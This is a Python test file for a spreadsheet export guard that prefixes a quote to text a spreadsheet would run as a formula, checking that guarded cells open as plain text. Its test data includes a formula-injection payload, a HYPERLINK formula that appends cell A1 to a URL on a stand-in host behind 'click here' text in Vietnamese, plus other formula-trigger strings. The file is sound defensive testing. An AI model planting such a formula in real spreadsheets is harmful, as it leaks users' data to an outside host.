"""Spreadsheet cells: text a spreadsheet would run as a formula is shown as typed instead."""

import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from lib.exports import safe_cell, safe_row

LINK = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (LINK, "'" + LINK),
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("bình thường", "bình thường"),
        ("Nguyễn Văn An = lớp trưởng", "Nguyễn Văn An = lớp trưởng"),
        ("", ""),
    ],
)
def test_text_that_starts_a_formula_gets_a_quote(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize("value", [None, -5, 3.5, True, dt.date(2026, 9, 5)])
def test_numbers_dates_and_empty_cells_stay_what_they_are(value):
    assert safe_cell(value) == value


def test_a_guarded_cell_is_plain_text_when_the_workbook_is_opened():
    book = Workbook()
    book.active.append(safe_row(["HS1", LINK, -5]))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(buffer).active.iter_rows(values_only=False))
    assert [cell.data_type for cell in cells] == ["s", "s", "n"]  # no formula cell
    assert cells[1].value == "'" + LINK
